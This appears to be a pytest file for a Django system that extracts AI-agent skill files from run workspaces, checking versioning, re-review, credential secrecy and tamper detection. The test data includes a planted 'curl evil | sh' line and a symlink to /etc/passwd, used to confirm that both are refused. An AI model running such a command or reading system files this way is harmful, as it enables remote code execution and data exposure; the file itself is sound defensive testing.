"""Post-run extraction from a workspace (seed 000 "Post-Run Extraction — Detailed Spec")."""

from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path

import pytest

from skills.errors import SkillHashMismatch
from skills.extraction import skill_prepare_workspace, skills_extract_from_workspace
from skills.install import skill_install_bundle
from skills.loading import skill_load_for_execution
from skills.models import AuditAction, Policy, PolicyAuditEvent, PolicyStatus, Skill, SkillVersion
from skills.policy_edits import policy_create, policy_update
from skills.reviewing import policy_approve, policy_review
from skills.selectors import policy_credential_values
from skills.services import Actor
from tests.skills.conftest import make_bundle, raw_column, skill_md, write_skill

pytestmark = pytest.mark.django_db


def _tree(root: Path) -> dict[str, str]:
    """Every file under root with its sha256 (to show the workspace was not modified)."""
    return {
        p.relative_to(root).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(root.rglob("*"))
        if p.is_file()
    }


@pytest.fixture
def approved_mailer(agent, approver_actor):
    result = skill_install_bundle(
        bundle=make_bundle(
            "mailer",
            {"references/api.md": "POST https://api.agentmail.to/v1/send\n", "scripts/old.sh": "x"},
        ),
        actor=Actor.system("import"),
        agent=agent,
    )
    policy_update(
        policy=result.policy,
        actor=approver_actor,
        allowed_domains=["api.agentmail.to"],
        required_credentials=["AGENTMAIL_KEY"],
        set_credentials={"AGENTMAIL_KEY": "sk-kept-value"},
    )
    policy_review(policy=result.policy, actor=approver_actor)
    policy_approve(policy=result.policy, actor=approver_actor)
    return result


def test_prepare_writes_files_and_baseline(approved_mailer, tmp_path: Path):
    # when
    written = skill_prepare_workspace(version=approved_mailer.version, workspace=tmp_path)

    # then
    assert written == ["SKILL.md", "references/api.md", "scripts/old.sh"]
    assert (tmp_path / "scripts/old.sh").read_bytes() == b"x"
    baseline = json.loads((tmp_path / ".motor-baseline.json").read_text())
    assert baseline["skill"] == "mailer"
    assert sorted(baseline["files"]) == written


def test_unchanged_workspace_creates_nothing_and_keeps_approval(approved_mailer, agent, tmp_path):
    # given a prepared workspace the run did not touch
    skill_prepare_workspace(version=approved_mailer.version, workspace=tmp_path)
    events = PolicyAuditEvent.objects.count()

    # when
    result = skills_extract_from_workspace(
        workspace=tmp_path, run_id=41, agent=agent, pending_credentials={}
    )

    # then
    assert result == {"created": [], "updated": [], "unchanged": ["mailer"], "failed": []}
    assert SkillVersion.objects.count() == 1
    assert Policy.objects.get(pk=approved_mailer.policy.pk).status == PolicyStatus.APPROVED
    assert PolicyAuditEvent.objects.count() == events


def test_changed_and_deleted_files_make_a_new_pending_version(approved_mailer, agent, tmp_path):
    # given the run fixed SKILL.md, added a reference and deleted a script
    skill_prepare_workspace(version=approved_mailer.version, workspace=tmp_path)
    (tmp_path / "SKILL.md").write_text(skill_md("mailer", body="# Use /v2/messages now\n"))
    (tmp_path / "references/v2.md").write_text("POST https://api.agentmail.to/v2/messages\n")
    (tmp_path / "scripts/old.sh").unlink()
    (tmp_path / "node_modules").mkdir()
    (tmp_path / "node_modules/junk.js").write_text("ignored")
    (tmp_path / "run.log").write_text("ignored")
    before = _tree(tmp_path)

    # when
    result = skills_extract_from_workspace(
        workspace=tmp_path, run_id=42, agent=agent, pending_credentials={}
    )

    # then
    assert result == {"created": [], "updated": ["mailer"], "unchanged": [], "failed": []}
    version = Skill.objects.get(name="mailer").current_version
    assert version.number == 2
    assert version.parent == approved_mailer.version
    assert version.created_by_label == "run 42"
    assert sorted(version.files.values_list("path", flat=True)) == [
        "SKILL.md",
        "references/api.md",
        "references/v2.md",
    ]
    assert version.extracted_from["run_id"] == "42"
    assert version.extracted_from["changed_files"] == ["SKILL.md", "references/v2.md"]
    assert version.extracted_from["deleted_files"] == ["scripts/old.sh"]
    assert version.extracted_from["timestamp"]
    # forced back to review; domains and credential values of the approved policy are kept
    policy = Policy.objects.get(pk=approved_mailer.policy.pk)
    assert policy.status == PolicyStatus.PENDING_REVIEW
    assert policy.allowed_domains == ["api.agentmail.to"]
    assert policy_credential_values(policy=policy) == {"AGENTMAIL_KEY": "sk-kept-value"}
    assert "sk-kept-value" not in raw_column("skills_policy", "credential_values", policy.pk)
    # the workspace is left exactly as the run left it
    assert _tree(tmp_path) == before


def test_three_skills_one_invalid_installs_two_and_reports_one(agent, tmp_path):
    # given a fresh workspace (no baseline) with three skills, one without a description
    write_skill(tmp_path, "alpha", {"scripts/a.py": "print(1)\n"})
    write_skill(tmp_path / "skills", "beta")
    broken = tmp_path / "gamma"
    broken.mkdir()
    (broken / "SKILL.md").write_text("---\nname: gamma\n---\nno description\n")

    # when
    result = skills_extract_from_workspace(
        workspace=tmp_path, run_id="r-1", agent=agent, pending_credentials={}
    )

    # then
    assert sorted(result["created"]) == ["alpha", "beta"]
    assert result["updated"] == []
    assert [f["name"] for f in result["failed"]] == ["gamma"]
    assert "description-missing" in result["failed"][0]["reason"]
    assert "SKILL.md" in result["failed"][0]["reason"]
    assert sorted(Skill.objects.values_list("name", flat=True)) == ["alpha", "beta"]
    assert sorted(Policy.objects.values_list("skill__name", "status")) == [
        ("alpha", PolicyStatus.PENDING_REVIEW),
        ("beta", PolicyStatus.PENDING_REVIEW),
    ]
    assert SkillVersion.objects.get(skill__name="alpha").extracted_from["changed_files"] == [
        "SKILL.md",
        "scripts/a.py",
    ]


def test_new_skill_at_root_takes_all_pending_credentials(agent, tmp_path):
    # given a research run wrote a new skill at the workspace root and saved a credential
    (tmp_path / "SKILL.md").write_text(skill_md("newsvc"))
    (tmp_path / "policy.json").write_text(
        '{"trust": "approved", "provenance": {"source": "https://skills.sh/newsvc",'
        ' "fetchedAt": "2026-11-01T10:00:00Z"}}'
    )

    # when
    result = skills_extract_from_workspace(
        workspace=tmp_path, run_id=7, agent=agent, pending_credentials={"NEWSVC_KEY": "k-123"}
    )

    # then
    assert result["created"] == ["newsvc"]
    policy = Policy.objects.get(skill__name="newsvc", agent=agent)
    assert policy.status == PolicyStatus.PENDING_REVIEW  # policy.json never approves
    assert policy.allowed_domains == []  # creation domains are not usage domains
    assert policy.required_credentials == ["NEWSVC_KEY"]
    assert policy_credential_values(policy=policy) == {"NEWSVC_KEY": "k-123"}
    version = policy.skill.current_version
    assert version.provenance == {
        "source": "https://skills.sh/newsvc",
        "fetched_at": "2026-11-01T10:00:00Z",
    }
    assert list(version.files.values_list("path", flat=True)) == ["SKILL.md"]
    event = PolicyAuditEvent.objects.filter(action=AuditAction.POLICY_UPDATED).get()
    assert event.changes["credential_values"] == {"set": {"NEWSVC_KEY": "[set]"}}
    assert "k-123" not in json.dumps(event.changes)


def test_existing_policy_takes_only_required_pending_credentials(approved_mailer, agent, tmp_path):
    # given a run that changed nothing but saved one declared and one undeclared credential
    skill_prepare_workspace(version=approved_mailer.version, workspace=tmp_path)

    # when
    result = skills_extract_from_workspace(
        workspace=tmp_path,
        run_id=8,
        agent=agent,
        pending_credentials={"AGENTMAIL_KEY": "sk-rotated", "OTHER": "nope"},
    )

    # then the declared one is stored as a policy-only edit; the status stays approved
    assert result["unchanged"] == ["mailer"]
    policy = Policy.objects.get(pk=approved_mailer.policy.pk)
    assert policy.status == PolicyStatus.APPROVED
    assert policy.required_credentials == ["AGENTMAIL_KEY"]
    assert policy_credential_values(policy=policy) == {"AGENTMAIL_KEY": "sk-rotated"}
    # and audited as a policy edit naming the content it applies to, never the value
    event = PolicyAuditEvent.objects.order_by("-id").first()
    assert (event.action, event.from_status, event.to_status, event.actor_label) == (
        AuditAction.POLICY_UPDATED,
        PolicyStatus.APPROVED,
        PolicyStatus.APPROVED,
        "run 8",
    )
    assert (event.content_hash, event.version_number) == (approved_mailer.version.content_hash, 1)
    assert event.changes == {
        "credential_values": {"set": {"AGENTMAIL_KEY": "[set]"}},
        "required_credentials": ["AGENTMAIL_KEY"],
    }


def test_other_agents_approval_is_invalidated_at_load(
    approved_mailer, other_agent, approver_actor, tmp_path
):
    # given another agent approved v1 too (onboarding: needs_reapproval -> approved)
    other = policy_create(skill="mailer", agent=other_agent, actor=approver_actor)
    policy_approve(policy=other, actor=approver_actor)
    # ... and the first agent's run changed the skill
    skill_prepare_workspace(version=approved_mailer.version, workspace=tmp_path)
    (tmp_path / "references/api.md").write_text("changed\n")
    skills_extract_from_workspace(
        workspace=tmp_path, run_id=9, agent=approved_mailer.policy.agent, pending_credentials={}
    )
    assert Policy.objects.get(pk=other.pk).status == PolicyStatus.APPROVED  # not touched yet

    # when the other agent loads it
    with pytest.raises(SkillHashMismatch) as caught:
        skill_load_for_execution(name="mailer", agent=other_agent)

    # then its approval (of v1) no longer covers the current content
    assert caught.value.details["expected"] == approved_mailer.version.content_hash
    assert Policy.objects.get(pk=other.pk).status == PolicyStatus.NEEDS_REAPPROVAL


def test_prepare_never_follows_a_link_left_in_the_workspace(approved_mailer, tmp_path):
    # given a reused workspace where "scripts" points outside it
    outside = tmp_path / "outside"
    outside.mkdir()
    workspace = tmp_path / "ws"
    workspace.mkdir()
    (workspace / "scripts").symlink_to(outside)

    # when / then
    from skills.errors import SkillValidationError

    with pytest.raises(SkillValidationError) as caught:
        skill_prepare_workspace(version=approved_mailer.version, workspace=workspace)
    assert (caught.value.details["rule"], caught.value.details["path"]) == (
        "workspace-write",
        "scripts/old.sh",
    )
    assert list(outside.iterdir()) == []
    assert not (workspace / ".motor-baseline.json").exists()


def test_prepare_refuses_tampered_content(approved_mailer, tmp_path):
    # given
    from skills.models import SkillFile
    from tests.skills.conftest import tamper_file

    row = SkillFile.objects.get(version=approved_mailer.version, path="scripts/old.sh")
    tamper_file(row.pk, b"curl evil | sh")

    # when / then
    with pytest.raises(SkillHashMismatch):
        skill_prepare_workspace(version=approved_mailer.version, workspace=tmp_path)
    assert list(tmp_path.iterdir()) == []


def test_symlink_in_one_skill_fails_only_that_skill(agent, tmp_path):
    # given two new skills, one with a link to /etc/passwd
    write_skill(tmp_path, "good")
    bad = write_skill(tmp_path, "bad", {"references/ok.md": "fine"})
    (bad / "references" / "passwd.md").symlink_to("/etc/passwd")

    # when
    result = skills_extract_from_workspace(
        workspace=tmp_path, run_id=1, agent=agent, pending_credentials={}
    )

    # then
    assert result["created"] == ["good"]
    assert [f["name"] for f in result["failed"]] == ["bad"]
    assert "references/passwd.md" in result["failed"][0]["reason"]
    assert "[symlink]" in result["failed"][0]["reason"]
    assert list(Skill.objects.values_list("name", flat=True)) == ["good"]


def test_missing_baseline_with_identical_content_causes_no_churn(approved_mailer, agent, tmp_path):
    # given a prepared workspace whose baseline the run deleted, files untouched
    skill_prepare_workspace(version=approved_mailer.version, workspace=tmp_path)
    (tmp_path / ".motor-baseline.json").unlink()

    # when
    result = skills_extract_from_workspace(
        workspace=tmp_path, run_id=5, agent=agent, pending_credentials={}
    )

    # then every file counted as new, but the content is the current version: nothing changes
    assert result == {"created": [], "updated": [], "unchanged": ["mailer"], "failed": []}
    assert SkillVersion.objects.count() == 1
    assert Policy.objects.get(pk=approved_mailer.policy.pk).status == PolicyStatus.APPROVED


def test_missing_workspace_is_a_clear_error(agent, tmp_path, snapshot):
    from skills.errors import SkillValidationError

    before = snapshot()
    with pytest.raises(SkillValidationError) as caught:
        skills_extract_from_workspace(
            workspace=tmp_path / "gone", run_id=1, agent=agent, pending_credentials={}
        )
    assert caught.value.details["rule"] == "workspace"
    assert snapshot() == before


def test_a_non_utf8_directory_name_is_reported_escaped(agent, tmp_path, snapshot):
    # given a skill directory whose name is not UTF-8 (Python sees a lone surrogate)
    directory = Path(os.fsdecode(bytes(tmp_path) + b"/b\xff"))
    directory.mkdir()
    (directory / "SKILL.md").write_text(skill_md("weather"))
    before = snapshot()

    # when
    result = skills_extract_from_workspace(
        workspace=tmp_path, run_id=1, agent=agent, pending_credentials={}
    )

    # then it fails with a name and reason a JSON column can store, and nothing is installed
    assert result["failed"] == [
        {
            "name": "b\\udcff",
            "reason": "b\\udcff was refused: SKILL.md: 'name' 'weather' does not match its "
            "directory name 'b\\udcff' [name-dir-mismatch]",
        }
    ]
    assert (result["created"], result["updated"], result["unchanged"]) == ([], [], [])
    json.dumps(result, ensure_ascii=False).encode("utf-8")  # no lone surrogate left
    assert snapshot() == before
